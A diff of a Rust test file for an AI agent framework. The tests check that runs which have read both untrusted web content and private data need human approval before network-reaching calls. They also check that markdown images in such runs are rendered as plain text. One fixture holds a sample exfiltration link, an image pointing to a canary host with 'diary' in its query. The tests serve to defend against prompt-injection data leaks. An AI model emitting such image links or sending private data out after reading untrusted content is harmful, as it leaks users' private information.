@@ -1,8 +1,8 @@
-//! Private data and the words of others in one run: what goes out needs a human.
+//! Runs that hold private data and untrusted content: calls that reach the network need an approval.
 
 use std::sync::Arc;
 
-use gantry_agent::{Agent, Answer, Event, FlowRule, GrantScope};
+use gantry_agent::{Agent, ApprovalDecision, FlowRule, GrantScope, SessionEvent};
 use gantry_tool::{Autonomy, Phase};
 use serde_json::json;
 use tokio::sync::broadcast::Receiver;
@@ -23,11 +23,11 @@ fn agent(autonomy: Autonomy, flow: FlowRule) -> Setup {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn an_autonomous_run_is_denied_with_the_steps() {
+async fn autonomous_run_is_denied_and_the_denial_names_the_steps() {
     let folder = tempfile::tempdir().unwrap();
     let world = World::open(folder.path(), agent(Autonomy::Autonomous, FlowRule::Ask), script).await;
-    let told = world.ask("go").await;
-    let text = final_text(&told);
+    let end = world.ask("go").await;
+    let text = final_text(&end);
     assert!(text.contains("denied") && text.contains("(page") && text.contains("(private"), "{text}");
     assert!(!world.notes().contains(&"secret".to_owned()));
     assert_denied(&world, "post");
@@ -37,7 +37,7 @@ async fn an_autonomous_run_is_denied_with_the_steps() {
     world.stop().await;
 }
 
-/// The label check's denials are on record as every denial is.
+/// Checks that the denial is in the audit log and in the metrics.
 fn assert_denied(world: &World, tool: &str) {
     let lines: Vec<_> = world.audit.records().into_iter().map(|(record, _)| record).collect();
     let line = lines.iter().find(|record| record.phase == Phase::Refused).expect("an audit line");
@@ -50,37 +50,37 @@ fn assert_denied(world: &World, tool: &str) {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_no_to_what_would_go_out_is_on_record() {
+async fn denied_approval_is_audited() {
     let folder = tempfile::tempdir().unwrap();
     let world = World::open(folder.path(), agent(Autonomy::Guided, FlowRule::Ask), script).await;
     let mut events = world.sessions.listen(&world.key());
     let message = world.send("go").await;
-    answer_next(&world, &mut events, "post", "flow-labels", Answer::No).await;
-    let told = settled(&mut events, &message).await;
-    assert!(final_text(&told).contains("the user said no"), "{told:?}");
+    answer_next(&world, &mut events, "post", "flow-labels", ApprovalDecision::No).await;
+    let end = settled(&mut events, &message).await;
+    assert!(final_text(&end).contains("the user said no"), "{end:?}");
     assert_denied(&world, "post");
     world.stop().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_human_may_let_these_very_bytes_out() {
+async fn approval_covers_exactly_one_call() {
     let folder = tempfile::tempdir().unwrap();
     let world = World::open(folder.path(), agent(Autonomy::Guided, FlowRule::Ask), script).await;
     let key = world.key();
     let mut events = world.sessions.listen(&key);
     let message = world.send("go").await;
-    let event = until(&mut events, |event| matches!(event, Event::Approval { .. })).await;
-    let Event::Approval { question, .. } = event else { panic!() };
+    let event = until(&mut events, |event| matches!(event, SessionEvent::Approval { .. })).await;
+    let SessionEvent::Approval { question, .. } = event else { panic!() };
     assert_eq!((question.rule.as_str(), &question.input), ("flow-labels", &json!({"text": "secret"})));
-    let wide = Answer::Always { scope: GrantScope::Tool, until: i64::MAX };
+    let wide = ApprovalDecision::Always { scope: GrantScope::Tool, until: i64::MAX };
     assert!(world.sessions.answer(&key, None, wide, "operator").await.is_err());
-    world.sessions.answer(&key, None, Answer::Yes, "operator").await.unwrap();
+    world.sessions.answer(&key, None, ApprovalDecision::Yes, "operator").await.unwrap();
     assert_eq!(final_text(&settled(&mut events, &message).await), "noted secret");
     world.stop().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn labels_stay_with_the_session_over_summaries_and_restarts_until_it_begins_anew() {
+async fn labels_survive_compaction_and_restarts() {
     let folder = tempfile::tempdir().unwrap();
     let script = |request: &gantry_model::Request| match results(request).len() {
         0 if crate::world::texts(request).last().is_some_and(|text| text.contains("post")) => {
@@ -93,7 +93,7 @@ async fn labels_stay_with_the_session_over_summaries_and_restarts_until_it_begin
     world.ask("read").await;
     let mut events = world.sessions.listen(&world.key());
     world.command("/compact").await;
-    until(&mut events, |event| matches!(event, Event::Compacted { .. })).await;
+    until(&mut events, |event| matches!(event, SessionEvent::Compacted { .. })).await;
     world.stop().await;
     let world = World::open(folder.path(), agent(Autonomy::Autonomous, FlowRule::Ask), script).await;
     assert_eq!(world.sessions.status(&world.key()).await.unwrap().labels.len(), 2);
@@ -101,7 +101,7 @@ async fn labels_stay_with_the_session_over_summaries_and_restarts_until_it_begin
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn one_label_alone_asks_nobody_and_the_rule_can_be_switched_off() {
+async fn flow_rule_can_be_switched_off() {
     let folder = tempfile::tempdir().unwrap();
     let world = World::open(folder.path(), agent(Autonomy::Autonomous, FlowRule::Off), script).await;
     assert_eq!(final_text(&world.ask("go").await), "noted secret");
@@ -109,7 +109,7 @@ async fn one_label_alone_asks_nobody_and_the_rule_can_be_switched_off() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_models_own_search_is_offered_until_something_private_is_held_and_counts_as_others_words() {
+async fn provider_search_is_untrusted_and_ends_with_private_data() {
     use gantry_model::{Block, Message, Reply, Role, StopReason, Usage};
     let folder = tempfile::tempdir().unwrap();
     let agent = Agent { autonomy: Autonomy::Autonomous, native_web_search: true, ..Agent::default() };
@@ -129,9 +129,9 @@ async fn the_models_own_search_is_offered_until_something_private_is_held_and_co
         _ => says(results(request).last().unwrap()),
     };
     let world = World::open(folder.path(), Setup { agent, ..Setup::default() }, script).await;
-    let told = world.ask("go").await;
-    let text = final_text(&told);
-    assert!(text.contains("denied") && text.contains("what the model itself found on the web"), "{text}");
+    let end = world.ask("go").await;
+    let text = final_text(&end);
+    assert!(text.contains("denied") && text.contains("the model's own web search"), "{text}");
     let requests = world.model.requests.lock().unwrap().clone();
     let offered: Vec<bool> = requests.iter().map(|request| request.native_web_search).collect();
     assert_eq!(offered, [true, false, false]);
@@ -139,18 +139,18 @@ async fn the_models_own_search_is_offered_until_something_private_is_held_and_co
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_same_page_again_and_again_ends_the_run() {
+async fn repeated_equal_pages_end_the_run() {
     let folder = tempfile::tempdir().unwrap();
     let script = |request: &gantry_model::Request| match results(request).len() {
         9 => says("enough"),
         number => calls(&[(&format!("a{number}"), "page", json!({"text": "site"}))]),
     };
     let world = World::open(folder.path(), agent(Autonomy::Guided, FlowRule::Ask), script).await;
-    let told = world.ask("go").await;
+    let end = world.ask("go").await;
     let requests = world.model.requests.lock().unwrap().clone();
     let page = results(requests.last().unwrap()).pop().unwrap();
     assert!(page.starts_with("[untrusted ") && page.contains("same result each time"), "{page}");
-    assert_eq!((requests.len(), matches!(told, Event::Final { .. })), (4, false), "{told:?}");
+    assert_eq!((requests.len(), matches!(end, SessionEvent::Final { .. })), (4, false), "{end:?}");
     world.stop().await;
 }
 
@@ -158,68 +158,69 @@ const SUPERVISED: &str = "supervised-agent";
 
 async fn answer_next(
     world: &World,
-    events: &mut Receiver<Arc<Event>>,
+    events: &mut Receiver<Arc<SessionEvent>>,
     tool: &str,
     rule: &str,
-    answer: Answer,
+    answer: ApprovalDecision,
 ) {
-    let event = until(events, |event| matches!(event, Event::Approval { .. })).await;
-    let Event::Approval { question, .. } = event else { panic!() };
+    let event = until(events, |event| matches!(event, SessionEvent::Approval { .. })).await;
+    let SessionEvent::Approval { question, .. } = event else { panic!() };
     assert_eq!((question.tool.as_str(), question.rule.as_str()), (tool, rule));
     world.sessions.answer(&world.key(), Some(question.id), answer, "operator").await.unwrap();
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn an_always_covers_the_very_same_call_whatever_rule_asks() {
+async fn always_covers_the_same_call_under_any_rule() {
     use gantry_model::Block;
     let folder = tempfile::tempdir().unwrap();
     let script = |request: &gantry_model::Request| {
-        let told = results(request);
+        let given = results(request);
         let is_new = !matches!(
             request.messages.last().and_then(|last| last.content.last()),
             Some(Block::ToolResult { .. })
         );
-        let id = format!("a{}", told.len());
-        match (is_new, told.len()) {
+        let id = format!("a{}", given.len());
+        match (is_new, given.len()) {
             (true, 0) => calls(&[(&id, "page", json!({"text": "site"}))]),
             (false, 1) => calls(&[(&id, "private", json!({"text": "diary"}))]),
             (false, 2) | (true, _) => calls(&[(&id, "post", json!({"text": "secret"}))]),
-            _ => says(told.last().unwrap()),
+            _ => says(given.last().unwrap()),
         }
     };
     let world = World::open(folder.path(), agent(Autonomy::Supervised, FlowRule::Ask), script).await;
     let key = world.key();
     let mut events = world.sessions.listen(&key);
     let message = world.send("go").await;
-    let always = Answer::Always { scope: GrantScope::Call, until: i64::MAX };
-    for (tool, rule, answer) in [("page", SUPERVISED, Answer::Yes), ("post", "flow-labels", always)] {
+    let always = ApprovalDecision::Always { scope: GrantScope::Call, until: i64::MAX };
+    for (tool, rule, answer) in [("page", SUPERVISED, ApprovalDecision::Yes), ("post", "flow-labels", always)]
+    {
         answer_next(&world, &mut events, tool, rule, answer).await;
     }
     assert_eq!(final_text(&settled(&mut events, &message).await), "noted secret");
-    // The rule for supervised agents asks about the second one, and is answered already.
+    // The grant also answers the rule for supervised agents.
     assert_eq!(final_text(&world.ask("again").await), "noted secret");
     assert_eq!(world.notes().iter().filter(|note| *note == "secret").count(), 2);
     world.stop().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn an_always_that_knew_of_no_labels_does_not_let_them_out() {
+async fn always_of_another_rule_does_not_cover_the_flow_rule() {
     let folder = tempfile::tempdir().unwrap();
     let script = |request: &gantry_model::Request| {
-        let told = results(request);
-        let id = format!("a{}", told.len());
-        match told.len() {
+        let given = results(request);
+        let id = format!("a{}", given.len());
+        match given.len() {
             0 | 3 => calls(&[(&id, "post", json!({"text": "secret"}))]),
             1 => calls(&[(&id, "page", json!({"text": "site"}))]),
             2 => calls(&[(&id, "private", json!({"text": "diary"}))]),
-            _ => says(told.last().unwrap()),
+            _ => says(given.last().unwrap()),
         }
     };
     let world = World::open(folder.path(), agent(Autonomy::Supervised, FlowRule::Ask), script).await;
     let key = world.key();
     let mut events = world.sessions.listen(&key);
     let message = world.send("go").await;
-    let always = || Answer::Always { scope: GrantScope::Call, until: i64::MAX };
+    let always = || ApprovalDecision::Always { scope: GrantScope::Call, until: i64::MAX };
     for (tool, rule) in [("post", SUPERVISED), ("page", SUPERVISED), ("post", "flow-labels")] {
         answer_next(&world, &mut events, tool, rule, always()).await;
     }
@@ -229,21 +230,24 @@ async fn an_always_that_knew_of_no_labels_does_not_let_them_out() {
 
 const PICTURE: &str = "Look: ![x](http://canary.example/?diary)\n\nand `vec![1](x)`";
 
-/// What those who listen are told that the model says, and the answer.
-async fn heard(world: &World) -> (String, Event) {
+/// Returns the text that listeners receive, and the final event.
+async fn stream(world: &World) -> (String, SessionEvent) {
     let mut events = world.sessions.listen(&world.key());
     let message = world.send("go").await;
     let mut text = String::new();
     loop {
-        match until(&mut events, |event| matches!(event, Event::Text { .. }) || event.settles(&message)).await
+        match until(&mut events, |event| {
+            matches!(event, SessionEvent::Text { .. }) || event.settles(&message)
+        })
+        .await
         {
-            Event::Text { delta, .. } => text += &delta,
+            SessionEvent::Text { delta, .. } => text += &delta,
             settled => return (text, settled),
         }
     }
 }
 
-/// Reads a page if told to, then the diary, then says [`PICTURE`].
+/// Reads a page and the diary, then answers with [`PICTURE`].
 fn pictures(request: &gantry_model::Request) -> Result<gantry_model::Reply, gantry_agent::ModelFailure> {
     match results(request).len() {
         0 => calls(&[("a", "page", json!({"text": "site"}))]),
@@ -253,41 +257,41 @@ fn pictures(request: &gantry_model::Request) -> Result<gantry_model::Reply, gant
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn pictures_of_a_run_that_holds_both_labels_are_shown_as_text_wherever_they_are_shown() {
+async fn images_of_a_run_with_both_labels_become_text() {
     let folder = tempfile::tempdir().unwrap();
     let world = World::open(folder.path(), agent(Autonomy::Autonomous, FlowRule::Ask), pictures).await;
-    let (streamed, told) = heard(&world).await;
-    assert_eq!(streamed, final_text(&told), "what is streamed is what is kept");
+    let (streamed, end) = stream(&world).await;
+    assert_eq!(streamed, final_text(&end), "the journal has what was streamed");
     assert!(
         streamed.starts_with("Look: !\\[x](http://canary.example/?diary)\n\nand `vec![1](x)`"),
         "{streamed}"
     );
     assert!(streamed.contains("(page") && streamed.contains("(private"), "the steps are named: {streamed}");
     let journal = world.journal.page(&world.key().key, 0, 1_000).await.unwrap();
-    assert!(!journal.iter().any(|event| event.data.contains("![x]")), "nor is it kept as a picture");
+    assert!(!journal.iter().any(|event| event.data.contains("![x]")), "the journal has no image");
     world.stop().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn pictures_of_other_runs_are_left_as_they_are() {
+async fn images_of_other_runs_stay_unchanged() {
     let alone = |request: &gantry_model::Request| match results(request).len() {
         0 => calls(&[("b", "private", json!({"text": "diary"}))]),
         _ => says(PICTURE),
     };
     let folder = tempfile::tempdir().unwrap();
     let world = World::open(folder.path(), agent(Autonomy::Autonomous, FlowRule::Ask), alone).await;
-    let (streamed, told) = heard(&world).await;
-    assert_eq!((streamed.as_str(), final_text(&told)), (PICTURE, PICTURE));
+    let (streamed, end) = stream(&world).await;
+    assert_eq!((streamed.as_str(), final_text(&end)), (PICTURE, PICTURE));
     world.stop().await;
     let folder = tempfile::tempdir().unwrap();
     let world = World::open(folder.path(), agent(Autonomy::Autonomous, FlowRule::Off), pictures).await;
-    let (streamed, told) = heard(&world).await;
-    assert_eq!((streamed.as_str(), final_text(&told)), (PICTURE, PICTURE));
+    let (streamed, end) = stream(&world).await;
+    assert_eq!((streamed.as_str(), final_text(&end)), (PICTURE, PICTURE));
     world.stop().await;
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn pictures_in_questions_to_the_user_are_shown_as_text() {
+async fn images_in_questions_to_the_user_become_text() {
     let folder = tempfile::tempdir().unwrap();
     let script = |request: &gantry_model::Request| match results(request).len() {
         0 => calls(&[("a", "page", json!({"text": "site"}))]),
@@ -298,8 +302,8 @@ async fn pictures_in_questions_to_the_user_are_shown_as_text() {
     let world = World::open(folder.path(), agent(Autonomy::Guided, FlowRule::Ask), script).await;
     let mut events = world.sessions.listen(&world.key());
     let message = world.send("go").await;
-    let event = until(&mut events, |event| matches!(event, Event::Asked { .. })).await;
-    let Event::Asked { asked, .. } = event else { panic!() };
+    let event = until(&mut events, |event| matches!(event, SessionEvent::Asked { .. })).await;
+    let SessionEvent::Asked { asked, .. } = event else { panic!() };
     assert!(asked.questions[0].question.starts_with(r"Look: !\[x]"), "{asked:?}");
     world.sessions.reply(&world.key(), None, vec!["no".into()], "operator").await.unwrap();
     assert_eq!(final_text(&settled(&mut events, &message).await), "done");
